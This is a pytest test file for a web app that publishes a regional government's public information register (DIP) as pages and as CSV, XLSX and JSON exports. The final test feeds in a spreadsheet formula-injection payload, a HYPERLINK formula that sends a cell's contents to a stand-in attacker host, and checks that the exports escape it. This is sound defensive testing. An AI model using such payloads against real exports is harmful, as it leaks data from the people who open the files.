"""The DIP: the public page, CSV/XLSX downloads and the CLI export, for the right semester."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest
from sqlalchemy import event

from publisher import register
from publisher.register import current_semester
from publisher.timeutil import semester_bounds

from .conftest import World


def _previous(year: int, semester: int) -> tuple[int, int]:
    return (year, 1) if semester == 2 else (year - 1, 2)


@pytest.fixture()
def two_semesters(world: World):  # type: ignore[no-untyped-def]
    """One Kominfo item this semester, one moved into the previous semester."""
    now = world.publish(world.kominfo, title="Laporan Semester Ini", summary="Ringkasan kini",
                        official_unit="Sekretariat", responsible="PPID Pelaksana",
                        made_at="2026-01-15", made_place="Sei Rampah",
                        info_formats=["cetak", "rekam"], retention="10 tahun",
                        category="berkala")
    old = world.publish(world.kominfo, title="Laporan Semester Lalu")
    year, semester = current_semester("Asia/Makassar")
    start, _ = semester_bounds(*_previous(year, semester), "Asia/Makassar")
    world.move_published(old.id, start + timedelta(days=3))
    return now, old, (year, semester)


def test_dip_page_shows_this_semester_only(client, world: World, two_semesters) -> None:  # type: ignore[no-untyped-def]
    _now, _old, (year, semester) = two_semesters
    html = client.get("/o/dinas-kominfo/dip").get_data(as_text=True)
    assert f"DAFTAR INFORMASI PUBLIK TAHUN {year} SEMESTER {semester} DINAS KOMINFO" in html
    assert "Laporan Semester Ini" in html and "Laporan Semester Lalu" not in html
    for text in ("Sekretariat", "PPID Pelaksana", "15 Januari 2026, Sei Rampah",
                 "Cetak, Rekam", "10 tahun", "Berkala", "WITA"):
        assert text in html
    assert f"/o/dinas-kominfo/dip.csv?tahun={year}&amp;semester={semester}" in html
    assert f"/o/dinas-kominfo/dip.xlsx?tahun={year}&amp;semester={semester}" in html

    py, ps = _previous(year, semester)
    html = client.get(f"/o/dinas-kominfo/dip?tahun={py}&semester={ps}").get_data(as_text=True)
    assert "Laporan Semester Lalu" in html and "Laporan Semester Ini" not in html


def test_csv_download(client, world: World, two_semesters) -> None:  # type: ignore[no-untyped-def]
    now, _old, (year, semester) = two_semesters
    response = client.get(f"/o/dinas-kominfo/dip.csv?tahun={year}&semester={semester}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert f"dip-dinas-kominfo-{year}-s{semester}.csv" in response.headers["Content-Disposition"]
    assert response.data.startswith(b"\xef\xbb\xbf")  # BOM for Excel
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["No", "Judul Informasi", "Ringkasan Isi Informasi"]
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Judul Informasi"] == "Laporan Semester Ini"
    assert row["Ringkasan Isi Informasi"] == "Ringkasan kini"
    assert row["Pejabat/Unit yang Menguasai Informasi"] == "Sekretariat"
    assert row["Penanggung Jawab Pembuatan/Penerbitan Informasi"] == "PPID Pelaksana"
    assert row["Waktu dan Tempat Pembuatan Informasi"] == "15 Januari 2026, Sei Rampah"
    assert row["Bentuk Informasi yang Tersedia (Cetak/Rekam/Online)"] == "Cetak, Rekam"
    assert row["Jangka Waktu Penyimpanan"] == "10 tahun"
    assert row["Kategori"] == "Berkala"
    assert row["Tautan"] == f"http://127.0.0.1:5000/o/dinas-kominfo/i/{now.id}/{now.slug}"
    assert row["Dipublikasikan di (saluran, URL, waktu)"].endswith("WITA")


def test_xlsx_download(client, world: World, two_semesters) -> None:  # type: ignore[no-untyped-def]
    _now, _old, (year, semester) = two_semesters
    py, ps = _previous(year, semester)
    response = client.get(f"/o/dinas-kominfo/dip.xlsx?tahun={py}&semester={ps}")
    assert response.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(response.data))
    ws = wb.active
    assert ws["A1"].value == f"DAFTAR INFORMASI PUBLIK TAHUN {py} SEMESTER {ps} DINAS KOMINFO"
    assert ws["A2"].value == "No" and ws["A2"].font.bold
    assert ws["C2"].value == "Ringkasan Isi Informasi"
    assert ws.freeze_panes == "A3"
    assert ws.column_dimensions["C"].width == 48
    assert ws["B3"].value == "Laporan Semester Lalu" and ws["B3"].alignment.wrap_text
    assert ws.max_row == 3
    assert "A1:L1" in {str(r) for r in ws.merged_cells.ranges}


def test_semester_bounds_follow_the_opd_zone(runtime, world: World) -> None:  # type: ignore[no-untyped-def]
    """30 June 23:30 WIB is already 1 July 00:30 WITA: semester 2 in Makassar only."""
    wib = world.publish(world.pemda, title="Akhir Juni WIB")
    wita = world.publish(world.kominfo, title="Akhir Juni WITA")
    moment = datetime(2026, 6, 30, 16, 30, tzinfo=UTC)
    world.move_published(wib.id, moment)
    world.move_published(wita.id, moment)
    with runtime.db.read() as s:
        def titles(unit, semester):  # type: ignore[no-untyped-def]
            reg = register.build(s, runtime.settings, 2026, semester, opd=unit.opd)
            return [r.title for r in reg.rows]

        assert titles(world.pemda, 1) == ["Akhir Juni WIB"]
        assert titles(world.pemda, 2) == []
        assert titles(world.kominfo, 1) == []
        assert titles(world.kominfo, 2) == ["Akhir Juni WITA"]
        row = register.build(s, runtime.settings, 2026, 2, opd=world.kominfo.opd).rows[0]
    assert row.channels[0].local == "2026-07-01 00:30 WITA"


def test_pemda_register_and_descendants(client, world: World) -> None:  # type: ignore[no-untyped-def]
    world.publish(world.kominfo, title="Dari Kominfo")
    world.publish(world.kecamatan, title="Dari Kecamatan")
    world.publish(world.desa, title="Dari Desa")
    everything = client.get("/dip").get_data(as_text=True)
    assert "PEMERINTAH KABUPATEN UJI" in everything
    for title in ("Dari Kominfo", "Dari Kecamatan", "Dari Desa"):
        assert title in everything
    own = client.get("/o/kecamatan-sei-rampah/dip").get_data(as_text=True)
    assert "Dari Kecamatan" in own and "Dari Desa" not in own
    tree = client.get("/o/kecamatan-sei-rampah/dip?turunan=1").get_data(as_text=True)
    assert "Dari Kecamatan" in tree and "Dari Desa" in tree and "Dari Kominfo" not in tree
    rows = list(csv.reader(io.StringIO(client.get("/dip.csv").data.decode("utf-8-sig"))))
    assert sorted(r[9] for r in rows[1:]) == ["Desa Firdaus", "Dinas Kominfo",
                                             "Kecamatan Sei Rampah"]


def test_exempt_cancelled_and_unsent_items_are_not_in_the_dip(client, world: World, make) -> None:  # type: ignore[no-untyped-def]
    unit = world.kominfo
    shown = world.publish(unit, title="Tetap Tercantum")
    exempt = world.publish(unit, title="Jadi Dikecualikan")
    world.set_item(exempt.id, category="dikecualikan", exemption_article="c")
    make.item(unit.editor, unit.opd, [unit.site.id], title="Draf Belum Terbit")
    cancelled = world.publish(unit, title="Dibatalkan")
    world.set_item(cancelled.id, status="cancelled")
    html = client.get("/o/dinas-kominfo/dip").get_data(as_text=True)
    assert "Tetap Tercantum" in html
    for title in ("Jadi Dikecualikan", "Draf Belum Terbit", "Dibatalkan"):
        assert title not in html
    assert shown.id


def test_bad_period_is_a_clear_400(client, world: World) -> None:  # type: ignore[no-untyped-def]
    for query, message in [("tahun=abc", "tahun harus berupa bilangan bulat"),
                           ("semester=3", "semester harus 1 (Januari–Juni) atau 2"),
                           ("tahun=1800", "tahun 1800 di luar rentang 2000–2100"),
                           ("page=0", "harus bilangan bulat ≥ 1")]:
        response = client.get(f"/o/dinas-kominfo/dip?{query}")
        assert response.status_code == 400, query
        assert message in response.get_data(as_text=True), query


def test_export_for_the_cli_writes_every_format(runtime, world: World, tmp_path) -> None:  # type: ignore[no-untyped-def]
    world.publish(world.kominfo, title="Untuk Diekspor")
    year, semester = current_semester("Asia/Makassar")
    calls: list[tuple[int, int]] = []
    for fmt in ("csv", "xlsx", "json"):
        path = tmp_path / f"dip.{fmt}"
        count = register.export(runtime, "dinas-kominfo", year, semester, fmt, path,
                                progress=lambda done, total: calls.append((done, total)))
        assert count == 1 and path.stat().st_size > 0
    assert (1, 1) in calls
    assert "Untuk Diekspor" in (tmp_path / "dip.json").read_text()
    with pytest.raises(register.NotFound) as missing:
        register.export(runtime, "tidak-ada", year, semester, "csv", tmp_path / "x.csv")
    assert missing.value.field == "opd"
    with pytest.raises(register.Invalid) as bad:
        register.export(runtime, None, year, semester, "pdf", tmp_path / "x.pdf")
    assert bad.value.field == "format"


def test_register_takes_a_fixed_number_of_queries(runtime, world: World) -> None:  # type: ignore[no-untyped-def]
    """No query per item: 1 item or 6 items cost the same number of statements."""
    year, semester = current_semester("Asia/Makassar")

    def statements() -> int:
        seen: list[str] = []

        def count(*args) -> None:  # type: ignore[no-untyped-def]
            seen.append(args[2])

        event.listen(runtime.db.engine, "before_cursor_execute", count)
        try:
            with runtime.db.read() as s:
                reg = register.build(s, runtime.settings, year, semester, opd=world.kominfo.opd)
                register.to_xlsx(reg)
        finally:
            event.remove(runtime.db.engine, "before_cursor_execute", count)
        return len(seen)

    world.publish(world.kominfo, title="Satu")
    few = statements()
    for n in range(5):
        world.publish(world.kominfo, title=f"Lagi {n}")
    assert statements() == few


def test_dip_page_is_paged_and_downloads_hold_everything(client, world: World,
                                                         monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr("publisher.site.dip.ROWS_PER_PAGE", 1)
    world.publish(world.kominfo, title="Baris Satu")
    world.publish(world.kominfo, title="Baris Dua")
    first = client.get("/o/dinas-kominfo/dip").get_data(as_text=True)
    assert "Baris Satu" in first and "Baris Dua" not in first and "Halaman 1 dari 2" in first
    second = client.get("/o/dinas-kominfo/dip?page=2").get_data(as_text=True)
    assert "Baris Dua" in second and "Baris Satu" not in second
    assert client.get("/o/dinas-kominfo/dip?page=3").status_code == 404
    rows = list(csv.reader(io.StringIO(
        client.get("/o/dinas-kominfo/dip.csv").data.decode("utf-8-sig"))))
    assert [r[1] for r in rows[1:]] == ["Baris Satu", "Baris Dua"]


def test_exports_never_turn_text_into_formulas(client, world: World) -> None:  # type: ignore[no-untyped-def]
    attack = '=HYPERLINK("https://evil.test/?d="&A1,"klik")'
    world.publish(world.kominfo, title=attack, summary="+SUM(1,2)", official_unit="@unit")
    rows = list(csv.reader(io.StringIO(
        client.get("/o/dinas-kominfo/dip.csv").data.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + attack
    assert rows[1][2] == "'+SUM(1,2)" and rows[1][3] == "'@unit"
    ws = openpyxl.load_workbook(io.BytesIO(client.get("/o/dinas-kominfo/dip.xlsx").data)).active
    assert ws["B3"].value == attack and ws["B3"].data_type == "s"
